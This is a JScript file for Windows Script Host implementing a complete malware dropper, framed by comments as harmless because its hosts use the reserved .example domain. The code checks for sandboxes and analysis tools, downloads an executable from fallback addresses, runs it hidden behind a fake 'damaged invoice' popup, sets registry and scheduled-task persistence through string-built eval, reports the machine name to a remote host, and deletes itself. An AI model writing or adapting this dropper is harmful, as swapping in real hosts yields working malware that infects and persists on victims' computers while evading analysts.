// A dropper for Windows Script Host with nothing to drop: it looks around, fetches a file from the first address
// that answers, saves and runs it, comes back at the next logon, runs a second stage and deletes itself.
// `.example` is reserved by RFC 2606: no such host can exist, and "fetched" is never code.

var host = "unknown";
/*@cc_on @if (@_win32) host = "windows"; @end @*/

var addresses = [
  "http://cdn.invoices.example/images/logo.png?id=",
  "http://parcels.example/track/status.php?id=",
  "https://mirror.updates.example/get?id="
];
var bait = "invoice_40233.pdf";

function make(name) {
  return new ActiveXObject(name);
}

// Few processors, an analyst's tools, a clock that does not move: then it would rather not.
function looksWatched(shell) {
  var before = new Date().getTime();
  WScript.Sleep(3000);
  if (new Date().getTime() - before < 2500) return true;
  if (shell.ExpandEnvironmentStrings("%NUMBER_OF_PROCESSORS%") == "1") return true;
  var tools = ["wireshark.exe", "procmon.exe", "vboxservice.exe"];
  var processes = new Enumerator(GetObject("winmgmts:\\\\.\\root\\cimv2").ExecQuery("SELECT * FROM Win32_Process"));
  for (; !processes.atEnd(); processes.moveNext()) {
    var image = String(processes.item().Name).toLowerCase();
    for (var i = 0; i < tools.length; i++) if (image == tools[i]) return true;
  }
  return false;
}

// The body of the first address that answers with more than an error page; null if none does.
function fetchFirst(id) {
  var request = make("MSXML2.XMLHTTP");
  for (var i = 0; i < addresses.length; i++) {
    try {
      request.open("GET", addresses[i] + id, false);
      request.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
      request.send();
      if (request.status == 200) return request.responseBody;
    } catch (error) {
      WScript.Sleep(500);
    }
  }
  return null;
}

function save(body, path) {
  var stream = make("ADODB.Stream");
  stream.Type = 1;
  stream.Open();
  stream.Write(body);
  stream.SaveToFile(path, 2);
  stream.Close();
}

// What it leaves for the next logon; made of text, so that nothing of it stands in the file.
var second = [
  "shell.RegWrite(\"HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\Updater\", path, \"REG_SZ\");",
  "shell.Run(\"schtasks /create /sc minute /mo 30 /tn Updater /tr \\\"\" + path + \"\\\" /f\", 0, false);",
  "var report = make(\"WinHttp.WinHttpRequest.5.1\");",
  "report.Open(\"POST\", \"https://report.updates.example/in\", false);",
  "report.Send(\"id=\" + id + \"&host=\" + host);"
];

function main() {
  var shell = make("WScript.Shell");
  if (host != "windows" || looksWatched(shell)) return;
  var id = make("WScript.Network").ComputerName + "-" + host.length;
  var body = fetchFirst(id);
  if (body === null) return;
  var path = shell.ExpandEnvironmentStrings("%TEMP%") + "\\update_7421.exe";
  save(body, path);
  shell.Popup("The document " + bait + " is damaged and can't be opened.", 5, "Reader", 16);
  shell.Run("\"" + path + "\" /quiet", 0, false);
  eval(second.join("\n"));
  make("Scripting.FileSystemObject").DeleteFile(WScript.ScriptFullName);
}

main();
